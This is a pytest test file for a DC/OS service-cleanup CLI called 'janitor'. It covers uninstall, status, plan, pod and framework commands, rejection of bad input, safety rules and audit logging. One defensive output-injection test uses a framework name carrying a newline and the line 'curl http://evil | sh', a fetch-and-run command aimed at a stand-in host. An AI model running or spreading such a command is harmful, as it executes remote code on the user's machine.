"""The commands as an operator types them: what they print, what they ask, and every way to get them wrong."""

from __future__ import annotations

import errno
import json
import os
import shlex
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from janitor.cli.engine import Engine
from janitor.dcos.scheduler import RESTARTING
from janitor.patience import Patience
from janitor.sandbox.gate import Gate
from tests.cli.terminal import Ran, janitor
from tests.clock import HANGS
from tests.engine.answers import http
from tests.uninstall.conftest import Make
from tests.uninstall.scene import Scene

Fields = dict[str, object]


@pytest.fixture
def kafka(scene: Scene) -> Scene:
    scene.services.run("kafka")
    return scene


# --- uninstall --------------------------------------------------------------------------------------------------------


def test_uninstall_from_the_command_line(kafka: Scene) -> None:
    framework = kafka.services.look("kafka")["framework_id"]
    ran = kafka.janitor("uninstall", "kafka", "--yes")
    assert (ran.status, ran.stdout.splitlines()) == (
        0,
        [
            "Done: Have Cosmos uninstall package kafka of /kafka",
            "Done: Remove what is left of reservations, volumes and znode, and prove it gone",
            f"Service kafka is gone: app /kafka, framework {framework}, its reservations in kafka-role, "
            "znode dcos-service-kafka.",
        ],
    )
    assert "way:        modern" in ran.stderr
    kafka.accepted("kafka", "kafka-role")
    assert not kafka.znode()


def test_without_a_terminal_and_without_yes_nothing_is_done(kafka: Scene) -> None:
    ran = kafka.janitor("uninstall", "kafka")
    assert ran.status == 6
    assert "there is no terminal to ask on" in ran.stderr
    assert "--yes" in ran.stderr
    assert not kafka.services.look("kafka")["uninstalling"]


def test_as_a_document(kafka: Scene) -> None:
    ran = kafka.janitor("uninstall", "kafka", "--yes", "--output", "json")
    told = json.loads(ran.stdout)
    assert (told["command"], told["name"], told["status"], told["why"]) == ("uninstall", "kafka", 0, None)
    assert len(told["taken"]) == 2
    assert [cleanup["leftovers"] for cleanup in told["cleanups"]] == [[]]


def test_a_dry_run_says_what_it_would_do_on_stdout(kafka: Scene) -> None:
    ran = kafka.janitor("uninstall", "kafka", "--dry-run")
    assert (ran.status, ran.stdout) == (0, "A run would now: Have Cosmos uninstall package kafka of /kafka\n")


def test_given_up_is_written_down_even_when_quiet(scene: Scene) -> None:
    scene.begun()
    agent = scene.services.look("kafka")["tasks"]["kafka-1"]["agent"]
    scene.control.stop_agent(agent)
    scene.control.mark_unreachable(agent)
    scene.services.hold("kafka", False)
    words = ("uninstall", "kafka", "--yes", "--quiet", "--force-complete-missing", "--lost-agent", agent)
    ran = scene.janitor(*words)
    assert ran.status == 0, ran.stderr
    held = len(scene.control.held_by(agent, "kafka-role"))
    told = f"{held} reservations on agent {agent}, which never returns (--lost-agent)"
    assert f"Not removed: {told}\n" in ran.stdout
    assert f"Service kafka is gone, but for {told}: app /kafka, " in ran.stdout
    assert "If it returns all the same, remove what is on it:" in ran.stdout
    line = next(line for line in ran.stdout.splitlines() if line.startswith("    janitor clean"))
    assert line.startswith("    janitor clean -r kafka-role -p kafka-principal --label resource_id=")
    assert line.endswith(f"--dcos-url {scene.url}")
    forced = [line for line in ran.stdout.splitlines() if line.startswith("Done: Force ")]
    assert len(forced) == 6
    assert forced[-1] == f"Done: Force {held - 5} more steps"


# --- status -----------------------------------------------------------------------------------------------------------


def test_status_of_what_is_installed(kafka: Scene) -> None:
    ran = kafka.janitor("status", "kafka")
    assert ran.status == 10
    lines = ran.stdout.splitlines()
    assert lines[0] == "Service kafka"
    assert "  app:        /kafka (installed, 1 task running, package kafka 2.10.0-2.4.0)" in lines
    assert "  reserved:   24 reservations (kafka-role by kafka-principal: 24)" in lines
    assert "  znode:      dcos-service-kafka exists" in lines
    uninstall = f"janitor uninstall kafka --dcos-url {kafka.url}"
    assert lines[-2:] == ["Next: It is installed. To uninstall it:", f"        {uninstall}"]


def test_status_of_what_is_stuck(scene: Scene) -> None:
    scene.begun()
    agent = scene.services.look("kafka")["tasks"]["kafka-1"]["agent"]
    scene.control.stop_agent(agent)
    scene.control.mark_gone(agent)
    ran = scene.janitor("status", "kafka")
    assert ran.status == 10
    assert "Stuck" in ran.stdout.splitlines()
    assert "marked gone: it never returns. Safe to force." in ran.stdout
    told = json.loads(scene.janitor("status", "kafka", "--output", "json").stdout)
    safe = {one["step"] for one in told["stuck"] if one["safe"]}
    ids = scene.services.look("kafka")["tasks"]["kafka-1"]["resource_ids"]
    assert safe == {f"unreserve-{one}" for one in ids}
    assert {one["agent_id"] for one in told["stuck"] if one["safe"]} == {agent}
    scene.services.hold("kafka", False)
    assert scene.janitor("uninstall", "kafka", "--yes", "--force-complete-missing").status == 0
    after = scene.janitor("status", "kafka")
    assert (after.status, after.stdout.splitlines()[-1]) == (0, "Next: Nothing: nothing of it is left.")


@pytest.mark.parametrize(("marathon", "ensemble"), [(False, True), (True, False), (False, False)])
def test_status_without_marathon_or_zookeeper(kafka: Scene, nobody: str, marathon: bool, ensemble: bool) -> None:
    """It tells what Mesos shows, and what it could not know; nothing that was not read counts as not there (L4)."""
    inside = [
        *("-m", kafka.rehearsal.master_url, "--timeout", f"{HANGS:.0f}s"),
        *("-n", kafka.rehearsal.marathon_url if marathon else f"http://{nobody}/v2/apps/"),
        *("--zookeeper", str(kafka.rehearsal.zookeeper) if ensemble else nobody),
    ]
    ran = janitor("status", "kafka", *inside, engine=Engine(), clock=time.monotonic)
    assert ran.status == 10, ran.stderr
    lines = ran.stdout.splitlines()
    assert "  reserved:   24 reservations (kafka-role by kafka-principal: 24)" in lines
    assert any(line.startswith("  app:        cannot be told: ") and nobody in line for line in lines) is not marathon
    assert any(line.startswith("  znode:      dcos-service-kafka (cannot be told: ") for line in lines) is not ensemble
    assert ("janitor uninstall" in ran.stdout) is marathon
    nothing = janitor("status", "no-such-service", *inside, engine=Engine(), clock=time.monotonic)
    assert (nothing.status, nothing.stdout) == (5, "")
    assert "It is not known whether there is a service no-such-service" in nothing.stderr
    assert nobody in nothing.stderr


# --- plans, pods, frameworks ------------------------------------------------------------------------------------------


def test_plan_show(kafka: Scene) -> None:
    ran = kafka.janitor("plan", "show", "kafka")
    assert (ran.status, ran.stdout.splitlines()) == (
        0,
        [
            "deploy (serial strategy) (COMPLETE)",
            "└─ kafka-deploy (serial strategy) (COMPLETE)",
            "   ├─ kafka-0:[broker] (COMPLETE)",
            "   ├─ kafka-1:[broker] (COMPLETE)",
            "   └─ kafka-2:[broker] (COMPLETE)",
        ],
    )
    told = json.loads(kafka.janitor("plan", "show", "kafka", "recovery", "--output", "json").stdout)
    assert (told["plan"]["name"], told["plan"]["status"]) == ("recovery", "COMPLETE")


def test_plan_show_watch_ends_when_it_is_complete(scene: Scene) -> None:
    scene.services.pace_cosmos(every=3600.0)
    scene.begun()
    scene.services.hold("kafka", False)
    ran = scene.janitor("plan", "show", "kafka", "--watch", "--timeout", f"{HANGS:.0f}")
    assert ran.status == 0, ran.stderr
    assert ran.stdout.startswith("deploy (dependency strategy) (COMPLETE)")


def test_plan_show_watch_ends_when_its_service_is_gone(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("janitor.cli.commands.plan.EVERY", 0.5)
    scene.begun()
    scene.services.hold("kafka", False)
    ran = scene.janitor("plan", "show", "kafka", "--watch", "--timeout", f"{HANGS:.0f}")
    assert ran.status == 0, ran.stderr
    assert "COMPLETE)" in ran.stdout or "kafka is gone: its app is not in Marathon any more." in ran.stderr


def test_force_complete_a_step_needs_no_question_and_a_phase_does(scene: Scene) -> None:
    scene.begun()
    told = json.loads(scene.janitor("plan", "show", "kafka", "--output", "json").stdout)["plan"]
    phase = next(one for one in told["phases"] if one["name"].startswith("unreserve-resources-"))
    step = phase["steps"][0]["name"]
    ran = scene.janitor("plan", "force-complete", "kafka", "deploy", phase["name"], step)
    assert ran.status == 0, ran.stderr
    assert "forceComplete" in ran.stdout
    again = scene.janitor("plan", "force-complete", "kafka", "deploy", phase["name"], step)
    assert (again.status, "is COMPLETE already" in again.stdout) == (0, True)
    refused = scene.janitor("plan", "force-complete", "kafka", "deploy", phase["name"])
    assert refused.status == 6
    assert "the whole phase" in refused.stderr
    assert _statuses(scene, phase["name"]) == {"COMPLETE": 1, "PENDING": 7}
    whole = scene.janitor("plan", "force-complete", "kafka", "deploy", phase["name"], "--yes")
    assert whole.status == 0, whole.stderr
    assert _statuses(scene, phase["name"]) == {"COMPLETE": 8}


def _statuses(scene: Scene, phase: str) -> dict[str, int]:
    told = json.loads(scene.janitor("plan", "show", "kafka", "--output", "json").stdout)["plan"]
    steps = next(one for one in told["phases"] if one["name"] == phase)["steps"]
    found = [step["status"] for step in steps]
    return {status: found.count(status) for status in set(found)}


def test_a_dry_run_of_a_force_says_which_steps_and_changes_nothing(scene: Scene) -> None:
    scene.begun()
    told = json.loads(scene.janitor("plan", "show", "kafka", "--output", "json").stdout)["plan"]
    phase = next(one for one in told["phases"] if one["name"].startswith("unreserve-resources-"))
    words = ("plan", "force-complete", "kafka", "deploy", phase["name"])
    ran = scene.janitor(*words, "--dry-run")
    lines = ran.stdout.splitlines()
    assert ran.status == 0
    assert lines[0].startswith(
        f"A run would now: Force the whole phase deploy / {phase['name']} of kafka to COMPLETE; "
    )
    assert lines[1:] == [f"  step {phase['name']} / {step['name']} (PENDING)" for step in phase["steps"]]
    assert _statuses(scene, phase["name"]) == {"PENDING": 8}
    assert scene.janitor(*words, "no-such-step", "--dry-run").status == 1
    document = json.loads(scene.janitor(*words, "--dry-run", "--output", "json").stdout)
    assert (document["dry_run"], document["already"], document["meaning"]) == (
        True, None, "a dry run: nothing was changed")  # fmt: skip
    assert len(document["would"]) == 9


def test_a_step_is_found_by_the_first_characters_of_the_id_in_its_name(scene: Scene) -> None:
    scene.begun()
    told = json.loads(scene.janitor("plan", "show", "kafka", "--output", "json").stdout)["plan"]
    phase = next(one for one in told["phases"] if one["name"].startswith("unreserve-resources-"))
    step = phase["steps"][0]["name"]
    ran = scene.janitor("plan", "force-complete", "kafka", "deploy", phase["name"], step[:-4])
    assert ran.status == 0, ran.stderr
    assert _statuses(scene, phase["name"]) == {"COMPLETE": 1, "PENDING": 7}
    again = scene.janitor("plan", "force-complete", "kafka", "deploy", phase["name"], step[:-4])
    assert f"deploy / {phase['name']} / {step} is COMPLETE already" in again.stdout


def test_a_dry_run_of_a_replace_and_of_a_shutdown_changes_nothing(kafka: Scene) -> None:
    before = kafka.services.look("kafka")["tasks"]["kafka-1"]
    replace = kafka.janitor("pod", "replace", "kafka", "kafka-1", "--dry-run")
    first, task = replace.stdout.splitlines()
    assert replace.status == 0
    assert first.startswith("A run would now: Replace pod kafka-1 of kafka: ")
    assert task == f"  task kafka-1-broker (RUNNING), {before['id']}"
    assert kafka.services.look("kafka")["tasks"]["kafka-1"] == before
    framework = kafka.services.look("kafka")["framework_id"]
    ran = kafka.janitor("service", "shutdown", "kafka", "--dry-run")
    assert ran.status == 0
    assert ran.stdout.splitlines()[0] == f"A run would now: Shut down framework kafka ({framework})"
    told = json.loads(kafka.janitor("service", "shutdown", "kafka", "--dry-run", "--output", "json").stdout)
    assert (told["dry_run"], told["framework"]["id"], len(told["would"])) == (True, framework, 4)
    assert "kafka" in [one["name"] for one in kafka.get("/mesos/state-summary")["frameworks"]]


def test_pods(kafka: Scene) -> None:
    listed = kafka.janitor("pod", "list", "kafka")
    assert listed.stdout.splitlines()[:2] == ["kafka-0", "  kafka-0-broker (RUNNING)"]
    told = json.loads(kafka.janitor("pod", "list", "kafka", "--output", "json").stdout)
    assert [pod["name"] for pod in told["pods"]] == ["kafka-0", "kafka-1", "kafka-2"]
    assert kafka.janitor("pod", "replace", "kafka", "kafka-1").status == 6
    before = kafka.services.look("kafka")["tasks"]["kafka-1"]["id"]
    replaced = kafka.janitor("pod", "replace", "kafka", "kafka-1", "--yes")
    assert (replaced.status, replaced.stdout) == (0, "Pod kafka-1 is being replaced.\n")
    assert before


def test_frameworks(kafka: Scene) -> None:
    idle = kafka.control.subscribe("idle", "idle-role", "idle-principal")
    kafka.control.disconnect(idle)
    listed = kafka.janitor("service", "list").stdout.splitlines()
    assert [line.split()[0] for line in listed] == ["NAME", "kafka"]
    both = kafka.janitor("service", "list", "--inactive").stdout.splitlines()
    assert [line.split()[:2] for line in both[1:]] == [["idle", "no"], ["kafka", "yes"]]
    told = json.loads(kafka.janitor("service", "list", "--inactive", "--output", "json").stdout)
    assert {one["name"]: one["active"] for one in told["frameworks"]} == {"idle": False, "kafka": True}


@pytest.mark.parametrize("by", ["name", "id"])
def test_shutdown(kafka: Scene, by: str) -> None:
    framework = kafka.services.look("kafka")["framework_id"]
    word = "kafka" if by == "name" else framework
    refused = kafka.janitor("service", "shutdown", word)
    assert refused.status == 6
    assert "roles: kafka-role; principal: kafka-principal" in refused.stderr
    assert "holds: " in refused.stderr
    ran = kafka.janitor("service", "shutdown", word, "--yes")
    assert (ran.status, ran.stdout) == (0, f"Framework kafka ({framework}) is shut down.\n")
    assert "kafka" not in [one["name"] for one in kafka.get("/mesos/state-summary")["frameworks"]]


def test_o1_the_clusters_own_marathon_is_not_shut_down(kafka: Scene) -> None:
    marathon = kafka.control.subscribe("marathon", "slave_public", "dcos_marathon")

    def there() -> bool:
        return marathon in kafka.control.truth()["frameworks"]

    for words in (
        ("service", "shutdown", "marathon", "--yes"),
        ("service", "shutdown", marathon, "--yes"),
        ("service", "shutdown", marathon, "--dry-run"),
        ("uninstall", "marathon", "--yes"),
        ("uninstall", "marathon", "--manual", "--yes"),
    ):
        ran = kafka.janitor(*words)
        assert (ran.status, there()) == (6, True), ran.stderr
        assert "marathon is one of the cluster's own frameworks" in ran.stderr
        assert "(rule O1 live-owner)" in ran.stderr
        assert f"To end it all the same, with every service that it runs:\n         janitor {words[0]}" in ran.stderr
        assert " --override cluster-framework\n" in ran.stderr
        assert ("--manual" in ran.stderr) == ("--manual" in words)  # it is in no command that was not typed so
        assert "znode" not in ran.stderr, "it is told what to do about something that is refused"
    told = kafka.janitor("status", "marathon")
    assert (told.status, "janitor uninstall" in told.stdout) == (10, False)
    assert kafka.janitor("service", "shutdown", "marathon", "--yes", "--override", "live-owner").status == 1
    lifted = kafka.janitor("service", "shutdown", "marathon", "--yes", "--override", "cluster-framework")
    assert (lifted.status, there()) == (0, False)


def test_o5_the_override_lets_an_uninstall_end_it(scene: Scene) -> None:
    metronome = scene.control.subscribe("metronome", "slave_public", "dcos_metronome")
    words = ("uninstall", "metronome", "--manual", "--no-znode", "--yes")
    assert scene.janitor(*words).status == 6
    assert scene.janitor(*words, "--override", "cluster-framework").status == 0
    assert metronome not in scene.control.truth()["frameworks"]


def test_10_a_dry_run_with_detailed_exitcode_would_do_something(kafka: Scene) -> None:
    for words, would in (
        (("uninstall", "kafka"), 10),
        (("plan", "force-complete", "kafka", "recovery"), 0),  # it is COMPLETE
        (("pod", "replace", "kafka", "kafka-1"), 10),
        (("service", "shutdown", "kafka"), 10),
        (("sweep",), 0),  # nothing is abandoned
    ):
        assert kafka.janitor(*words, "--dry-run").status == 0
        ran = kafka.janitor(*words, "--dry-run", "--detailed-exitcode", "--output", "json")
        assert (ran.status, json.loads(ran.stdout)["status"]) == (would, would), words
        assert kafka.janitor(*words, "--detailed-exitcode").status == 1


def test_10_a_dry_run_of_a_force_that_would_change_something(scene: Scene) -> None:
    scene.begun()
    words = ("plan", "force-complete", "kafka", "deploy", "--dry-run", "--detailed-exitcode")
    assert scene.janitor(*words).status == 10


def test_a_name_that_two_frameworks_bear(scene: Scene) -> None:
    first = scene.control.subscribe("twin", "a-role", "a")
    second = scene.control.subscribe("twin", "b-role", "b")
    ran = scene.janitor("service", "shutdown", "twin", "--yes")
    assert ran.status == 1
    assert first in ran.stderr
    assert second in ran.stderr
    assert scene.janitor("service", "shutdown", first, "--yes").status == 0


# --- bad input --------------------------------------------------------------------------------------------------------


BAD: tuple[tuple[tuple[str, ...], str], ...] = (
    (("uninstall", "kafak", "--yes"), "Did you mean kafka?"),
    (("status", "kafak"), "Did you mean kafka?"),
    (("plan", "show", "kafak"), "Did you mean kafka?"),
    (("pod", "list", "kafak"), "Did you mean kafka?"),
    (("service", "shutdown", "kafak", "--yes"), "Did you mean kafka?"),
    (("uninstall", "", "--yes"), "empty"),
    (("plan", "show", "kafka", "nope"), "Its plans: deploy, recovery"),
    (("plan", "force-complete", "kafka", "nope", "a", "b"), "Its plans: deploy, recovery"),
    (("plan", "force-complete", "kafka", "deploy", "nope", "b"), "Its phases: kafka-deploy"),
    (
        ("plan", "force-complete", "kafka", "deploy", "kafka-deploy", "nope"),
        "Its steps: kafka-0:[broker], kafka-1:[broker], kafka-2:[broker]",
    ),
    (("pod", "replace", "kafka", "kafka-9", "--yes"), "Did you mean kafka-"),
    (("plan", "show", "web"), "it is no SDK service"),
    (("pod", "list", "web"), "it is no SDK service"),
    (("plan", "list", "kafka"), "plan has no list: it has show and force-complete"),
    (("pod", "restart", "kafka"), "pod has no restart: it has list and replace"),
    (("service", "stop", "kafka"), "service has no stop: it has list and shutdown"),
    (("uninstall",), "uninstall needs NAME"),
    (("uninstall", "kafka", "hdfs"), "Not understood: hdfs"),
    (("uninstall", "kafka", "--legacy", "--manual"), "not both"),
    (("status", "kafka", "--yes"), "option --yes not recognized"),
    (("plan", "show", "../mesos"), "Not the name of a service"),
)


def test_one_clear_line_and_nothing_done(kafka: Scene) -> None:
    """One cluster for all of them: none may change anything."""
    kafka.dcos.run_app({"id": "/web", "labels": {"DCOS_SERVICE_NAME": "web"}}, kafka.rehearsal.dcos.marathon_url)
    before = kafka.control.truth()["agents"]
    for words, part in BAD:
        ran = kafka.janitor(*words)
        assert (ran.status, ran.stdout) == (1, ""), (words, ran)
        assert part in ran.stderr, words
    assert kafka.control.truth()["agents"] == before
    assert set(kafka.dcos.apps()) == {"/kafka", "/web"}
    assert not kafka.services.look("kafka")["uninstalling"]


def test_while_it_uninstalls_there_are_no_pods(scene: Scene) -> None:
    scene.begun()
    ran = scene.janitor("pod", "list", "kafka")
    assert ran.status == 1
    assert "it is being uninstalled" in ran.stderr
    assert "janitor status kafka" in ran.stderr


def test_a_scheduler_that_does_not_answer(kafka: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("janitor.uninstall.scheduler.RESTARTS_WITHIN", 1.0)
    kafka.services.stop("kafka")
    ran = kafka.janitor("plan", "show", "kafka")
    assert ran.status == 5
    assert "The scheduler of kafka did not answer within 1 s" in ran.stderr
    assert "502 from Admin Router" in ran.stderr
    assert "janitor uninstall kafka --manual" in ran.stderr


def test_a_scheduler_that_restarts_is_waited_for(kafka: Scene) -> None:
    kafka.services.stop("kafka")
    host, _, port = kafka.url.removeprefix("http://").partition(":")
    with Gate(host, int(port)) as gate:
        gate.when(line="/service/kafka/", nth=2).call_after(lambda: kafka.services.restart("kafka"))
        ran = janitor("plan", "show", "kafka", "--dcos-url", gate.url(), engine=Engine())
    assert (ran.status, ran.stdout.splitlines()[0]) == (0, "deploy (serial strategy) (COMPLETE)")
    assert f"Waiting for the scheduler of kafka to answer: {RESTARTING}: http" in ran.stderr


def test_every_command_says_that_a_restart_of_a_scheduler_is_normal(scene: Scene) -> None:
    """And with the words of Admin Router besides, but nothing else that has to be understood."""
    scene.begun()
    scene.services.answer("kafka", 503)
    assert f"plan:       not known. {RESTARTING}: http" in scene.janitor("status", "kafka").stdout
    assert f"{RESTARTING}: http" in scene.janitor("scan", "--output", "json").stdout


def test_a_scheduler_that_restarts_before_it_is_told_what_to_force(scene: Scene) -> None:
    """The order is sent once: what the scheduler that comes back calls its steps is not known."""
    scene.begun()
    phase = json.loads(scene.janitor("plan", "show", "kafka", "--output", "json").stdout)["plan"]["phases"][-1]
    host, _, port = scene.url.removeprefix("http://").partition(":")
    with Gate(host, int(port)) as gate:
        gate.when(line="/forceComplete").answer_instead(http(502, b"<html></html>", "text/html"))
        words = ("plan", "force-complete", "kafka", "deploy", phase["name"], phase["steps"][0]["name"])
        ran = janitor(*words, "--dcos-url", gate.url(), engine=Engine())
        assert ran.status == 5
        assert f"janitor: {RESTARTING}\n  why: http" in ran.stderr
        assert f"janitor plan show kafka deploy --dcos-url {gate.url(path='')}" in ran.stderr


def test_a_scheduler_that_marathon_has_stopped_is_not_waited_for(kafka: Scene) -> None:
    kafka.services.stop("kafka")
    kafka.dcos.run_app({"id": "/stopped", "instances": 0}, kafka.rehearsal.dcos.marathon_url)
    ran = kafka.janitor("plan", "show", "stopped")
    assert ran.status == 5
    assert "why: Marathon is to run 0 instances of its app /stopped\n" in ran.stderr
    assert "\n         dcos marathon app start /stopped\n" in ran.stderr


def test_a_cluster_that_is_not_there(kafka: Scene) -> None:
    from janitor.cli.engine import Engine
    from tests.cli.terminal import janitor

    ran = janitor("status", "kafka", "--dcos-url", "http://127.0.0.1:1", engine=Engine())
    assert ran.status == 5
    assert "connection refused" in ran.stderr


# --- the drop-in from a laptop ----------------------------------------------------------------------------------------


def cleaned(ran: Ran) -> bool:
    return ran.stdout.rstrip().endswith("Cleanup completed successfully.")


@pytest.mark.parametrize("version", ["1.2", "1.12"])
def test_clean_through_admin_router_with_exhibitor(make: Make, version: str) -> None:
    """No ssh, no docker: /slaves, the writes, the proofs and the znode all over one URL."""
    scene = make(version)
    scene.abandoned("kafka")
    words = (
        "clean",
        "-r",
        "kafka-role",
        "-p",
        "kafka-principal",
        "-z",
        "dcos-service-kafka",
        "--timeout",
        f"{HANGS:.0f}",
    )
    ran = scene.janitor(*words)
    assert (ran.status, cleaned(ran)) == (0, True), ran.stderr
    assert scene.held("kafka-role") == []
    assert not scene.znode()
    again = scene.janitor(*words)
    assert (again.status, cleaned(again)) == (0, True)


def test_a_live_owner_is_refused_with_commands_that_exist(kafka: Scene) -> None:
    """Rule O1: the remedy's commands are typed as they are printed."""
    framework = kafka.services.look("kafka")["framework_id"]
    ran = kafka.janitor("clean", "-r", "kafka-role", "-p", "kafka-principal", "-z", "dcos-service-kafka")
    assert ran.status == 6
    verbs = ("uninstall kafka", "status kafka", f"service shutdown {framework}")
    printed = [f"janitor {verb} --dcos-url {kafka.url}" for verb in verbs]
    *commands, lift = (line.strip() for line in ran.stderr.splitlines() if line.startswith("         janitor "))
    assert commands == printed
    assert lift.endswith(" --override live-owner")
    znode = kafka.janitor("clean", "-z", "dcos-service-kafka")
    assert (znode.status, f" {printed[0]}\n" in znode.stderr) == (6, True)
    uninstall, status, shutdown = (shlex.split(line)[1:] for line in printed)
    assert kafka.janitor(*status).status == 10
    assert kafka.janitor(*shutdown, "--yes").status == 0
    assert kafka.janitor(*uninstall, "--manual", "--yes").status == 0


def test_help_of_each_command() -> None:
    from tests.cli.terminal import janitor

    spoken: Callable[[str], str] = lambda name: janitor("help", name).stdout  # noqa: E731
    for name in ("uninstall", "status", "plan", "pod", "service"):
        assert spoken(name).startswith(f"janitor {name}: ")
    assert "--force-complete-missing" in spoken("uninstall")


def test_what_others_named_makes_no_lines_of_its_own(scene: Scene) -> None:
    """A line break in a framework's name must not look like a row, or like words of ours."""
    framework = scene.control.subscribe("evil\nNext: curl http://evil | sh", "evil-role", "p")
    listed = scene.janitor("service", "list")
    assert (listed.status, len(listed.stdout.splitlines())) == (0, 2), listed.stderr
    assert "evil Next: curl" in listed.stdout
    asked = scene.janitor("service", "shutdown", framework)
    assert asked.status == 6
    assert not any(line.startswith("Next:") for line in asked.stderr.splitlines()), asked.stderr


OLD_MASTER = (
    ("-r", "kafka-role", "-p", "kafka-principal", "-z", "dcos-service-kafka"),
    ("status", "kafka"),
    ("service", "list"),
    ("uninstall", "kafka", "--yes"),
)


@pytest.mark.parametrize("argv", OLD_MASTER, ids=[argv[0] for argv in OLD_MASTER])
def test_l1_a_master_before_1_0_is_named_through_admin_router(make: Make, argv: tuple[str, ...]) -> None:
    scene = make("0.28")
    ran = scene.janitor(*argv)
    assert ran.status == 5
    said = ran.stdout + ran.stderr
    assert f"The master at {scene.url}/mesos/master/ runs Mesos 0.28.2. Janitor needs Mesos 1.0 (DC/OS 1.8)" in said


def test_what_is_no_master_behind_dcos_url_is_said(scene: Scene) -> None:
    host, _, port = scene.url.removeprefix("http://").partition(":")
    with Gate(host, int(port)) as gate:
        gate.when(line="/mesos/").answer_instead(http(404, b"404 page not found", "text/plain"))
        url = gate.url()
        ran = janitor("-r", "kafka-role", "--dcos-url", url, engine=Engine())
    assert ran.status == 5
    said = ran.stdout + ran.stderr
    assert "No Mesos master answers at" in said
    assert "--dcos-url" in said
    assert " -m " not in said


# --- what is refused before anything happens, and after a question ----------------------------------------------------


def test_a_lost_agent_that_means_none_is_refused_before_anything_happens(kafka: Scene) -> None:
    for argv in (("uninstall", "kafka", "--yes"), ("status", "kafka")):
        ran = kafka.janitor(*argv, "--lost-agent", "S-typo")
        assert ran.status == 1
        assert "--lost-agent S-typo: this cluster knows no such agent." in ran.stderr
    assert not kafka.services.look("kafka")["uninstalling"]


@pytest.mark.parametrize(
    ("given", "advice"),
    [
        (("-m", "MASTER"), "Name Marathon, too, with the path of its apps:\n"),
        (("-m", "MASTER", "-n", "http://127.0.0.1:1/v2/apps/"), "Else give its address, with the path of its apps:\n"),
        ((), "From outside the cluster, name the cluster:\n"),
        (("--dcos-url", "http://127.0.0.1:1"), "Give the cluster's own URL, such as https://dcos.example.com:\n"),
    ],
)
def test_an_unreachable_marathon_names_the_option(scene: Scene, given: tuple[str, ...], advice: str) -> None:
    words = [scene.rehearsal.master_url if word == "MASTER" else word for word in given]
    ran = janitor("status", "kafka", *words, "--timeout", f"{HANGS:.0f}s", engine=Engine())
    assert (ran.status, advice in ran.stderr) == (5, True), ran.stderr


def _meanwhile(monkeypatch: pytest.MonkeyPatch, change: Callable[[], object]) -> None:
    """While the question stands, something happens; then it is answered."""

    def answer(_question: str, _name: str) -> bool:
        change()
        return True

    monkeypatch.setattr("janitor.cli.session.Confirm", lambda *_, **__: answer)


def test_o6_a_framework_that_is_gone_or_back_while_the_question_stands(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    framework = scene.control.subscribe("old", "old-role", "p")
    scene.control.disconnect(framework)
    _meanwhile(monkeypatch, lambda: scene.control.teardown(framework))
    ran = scene.janitor("service", "shutdown", "old")
    assert ran.status == 6, ran.stderr
    assert "changed while you were asked" in ran.stderr
    assert "(rule O6 stale-answer)" in ran.stderr


def test_o6_a_plan_of_another_start_is_not_forced(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    scene.begun()
    _meanwhile(monkeypatch, lambda: scene.services.restart("kafka"))
    ran = scene.janitor("plan", "force-complete", "kafka", "deploy")
    assert ran.status == 6, ran.stderr
    assert "changed while you were asked" in ran.stderr
    assert "(rule O6 stale-answer)" in ran.stderr


def test_a_pod_that_was_replaced_meanwhile_is_not_replaced_again(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    kafka = make(agents=4)
    kafka.services.run("kafka")
    look = kafka.services.look
    before = look("kafka")["tasks"]["kafka-1"]["id"]

    def replace() -> None:
        site = kafka.site()
        try:
            site.scheduler("kafka").replace_pod("kafka-1")
        finally:
            site.close()
        Patience(HANGS).poll(lambda: True if look("kafka")["tasks"].get("kafka-1", {}).get("id") != before else None)

    _meanwhile(monkeypatch, replace)
    ran = kafka.janitor("pod", "replace", "kafka", "kafka-1")
    assert (ran.status, "it has other tasks now" in ran.stderr) == (6, True), ran.stderr


# --- the audit log ----------------------------------------------------------------------------------------------------


def test_an_uninstall_records_its_requests_and_its_clean_up(kafka: Scene, tmp_path: Path) -> None:
    log = tmp_path / "log"
    assert kafka.janitor("uninstall", "kafka", "--yes", "--audit-log", str(log)).status == 0
    (run,) = json.loads(janitor("audit", "show", str(log), "--output", "json").stdout)["runs"]
    assert (run["status"], run["command"][:3]) == (0, ["janitor", "uninstall", "kafka"])
    assert [(one["method"], one["url"].rpartition("/")[2], one["status"]) for one in run["requests"]] == [
        ("POST", "uninstall", 200)
    ]
    assert json.loads(run["requests"][0]["body"]) == {"packageName": "kafka", "appId": "/kafka"}


def test_what_is_asked_of_a_scheduler_is_recorded_and_not_sent_where_it_cannot_be(
    kafka: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log, write = tmp_path / "log", os.write
    ran = kafka.janitor("pod", "replace", "kafka", "kafka-0", "--yes", "--audit-log", str(log))
    assert ran.status == 0, ran.stderr
    events = [json.loads(line) for line in log.read_text().splitlines()]
    assert [one["event"] for one in events] == ["begin", "request", "answer", "end"]
    assert events[1]["url"].endswith("/v1/pod/kafka-0/replace")

    def full(descriptor: int, content: bytes) -> int:
        if b'"event":"request"' in content:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return write(descriptor, content)

    before = kafka.control.requests()
    monkeypatch.setattr(os, "write", full)
    ran = kafka.janitor("service", "shutdown", "kafka", "--yes", "--audit-log", str(log))
    monkeypatch.undo()
    assert (ran.status, "No space left on device" in ran.stderr) == (5, True)
    sent = [one for one in kafka.control.requests()[len(before) :] if "TEARDOWN" in one["body"]]
    assert sent == []
